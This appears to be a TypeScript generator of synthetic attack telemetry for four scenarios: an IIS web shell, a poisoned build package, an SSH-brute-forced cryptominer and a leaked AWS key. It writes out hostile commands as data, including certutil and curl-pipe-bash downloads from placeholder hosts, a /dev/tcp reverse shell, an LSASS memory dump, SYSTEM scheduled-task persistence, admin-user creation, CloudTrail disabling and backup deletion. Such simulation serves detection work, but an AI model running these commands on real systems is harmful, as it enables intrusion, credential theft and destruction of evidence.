import { root, system, type Runner } from '../endpoint-rows.ts';
import { onWindows } from '../programs.ts';
import { awsAccount } from '../world.ts';
import { encoded, programOf, type Teller } from './teller.ts';

/** A file in an upload folder answers commands. */
export function webShell(t: Teller): void {
  const server = t.ownServer('app02');
  const pool: Runner = { account: 'DefaultAppPool', domain: 'IIS APPPOOL', upn: '', sid: 'S-1-5-82-1', objectId: '' };
  const tools = t.site('files.shell-host.example');
  for (const [n, command] of [
    'whoami.exe /priv',
    'ipconfig.exe /all',
    'systeminfo.exe',
    'net.exe user',
    'nltest.exe /dclist:',
  ].entries())
    t.start(server, n / 30, pool, `C:\\Windows\\System32\\${command.split(' ')[0]}`, command, onWindows.iis);
  t.start(
    server,
    1,
    pool,
    'C:\\Windows\\System32\\certutil.exe',
    `certutil.exe -urlcache -split -f https://${tools}/p.exe C:\\Windows\\Temp\\p.exe`,
    onWindows.iis,
  );
  t.start(
    server,
    2,
    system,
    onWindows.powershell.folder + '\\powershell.exe',
    encoded('IEX shell'),
    programOf('C:\\Windows\\Temp\\p.exe'),
  );
  t.start(
    server,
    4,
    system,
    'C:\\Windows\\System32\\schtasks.exe',
    'schtasks.exe /create /sc onstart /tn upd /tr "C:\\Windows\\Temp\\p.exe" /ru SYSTEM',
  );
  t.start(
    server,
    6,
    system,
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\w.dmp full',
  );
  t.start(server, 9, system, 'C:\\Windows\\Temp\\rar.exe', 'rar.exe a -hpsecret C:\\Windows\\Temp\\o.rar D:\\Sites');
}

/** A package of the build runs a script: keys of the build leave, and are used. */
export function packageOfTheBuild(t: Teller): void {
  const build = t.ownServer('build01');
  const ip = t.address(110);
  const user = 'svc-build-publish';
  t.mark(user);
  const host = t.site('registry.leftpad-mirror.example');
  t.start(
    build,
    0,
    root,
    '/usr/bin/bash',
    `bash -c curl -s https://${host}/postinstall.sh | bash`,
    programOf('/usr/bin/node'),
  );
  t.start(build, 0.1, root, '/tmp/.n/agent', '/tmp/.n/agent --collect');
  t.start(build, 0.5, root, '/usr/bin/bash', `bash -i >& /dev/tcp/${ip}/443 0>&1`);
  for (let n = 0; n < 12; n++)
    t.aws(user, 3 + n / 60, ip, 'secretsmanager', 'GetSecretValue', {
      secretId: `arn:aws:secretsmanager:eu-west-1:${awsAccount}:secret:s${n}`,
    });
  t.aws(user, 5, ip, 'iam', 'CreateUser', { userName: 'svc-mirror' });
  t.mark('svc-mirror');
  t.aws(user, 5.05, ip, 'iam', 'AttachUserPolicy', {
    userName: 'svc-mirror',
    policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
  });
  t.aws('svc-mirror', 7, ip, 'cloudtrail', 'StopLogging', { name: 'contoso-trail' });
}

/** A password is guessed over SSH, and a miner moves in. */
export function miner(t: Teller): void {
  const server = t.ownServer('web02');
  const ip = t.address(111);
  t.guessing(server, 0.1, ip, 'ubuntu', 60);
  t.log(
    server,
    1,
    'useradd',
    'new user: name=sysd, UID=0, GID=1007, home=/home/sysd, shell=/bin/bash, from=/dev/pts/1',
  );
  t.log(
    server,
    1.2,
    'sudo',
    `ubuntu : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -s http://${ip}/m.sh | bash`,
  );
  t.start(server, 3, root, '/usr/bin/wget', `wget -q http://${ip}/xm -O /tmp/xm`);
  t.start(server, 3.1, root, '/tmp/xm', '/tmp/xm -o pool.example:3333');
  t.log(server, 12, 'CRON', `(root) CMD (curl -s http://${ip}/m.sh | bash)`);
}

/** An access key that lay open is used from outside. */
export function cloudKey(t: Teller): void {
  const ip = t.address(112);
  const [user, made] = ['svc-reports', 'svc-metrics-ro'];
  t.mark(user, made);
  const kinds = [
    'ListUsers',
    'ListRoles',
    'ListBuckets',
    'DescribeInstances',
    'ListFunctions',
    'ListKeys',
    'ListTables',
    'ListQueues',
    'ListTopics',
    'ListStacks',
    'DescribeDBInstances',
    'ListClusters',
  ];
  for (const [n, name] of kinds.entries()) t.aws(user, n / 60, ip, 'iam', name, {}, ['AccessDenied', 'not authorized']);
  t.aws(user, 2, ip, 'iam', 'CreateUser', { userName: made });
  t.aws(user, 2.05, ip, 'iam', 'AttachUserPolicy', {
    userName: made,
    policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
  });
  t.aws(user, 2.1, ip, 'iam', 'CreateAccessKey', { userName: made });
  t.aws(made, 5, ip, 'cloudtrail', 'StopLogging', { name: 'contoso-trail' });
  t.aws(made, 10, ip, 's3', 'PutBucketVersioning', {
    bucketName: 'contoso-backup',
    VersioningConfiguration: { Status: 'Suspended' },
  });
  t.aws(made, 10.1, ip, 's3', 'DeleteBucket', { bucketName: 'contoso-backup' });
}
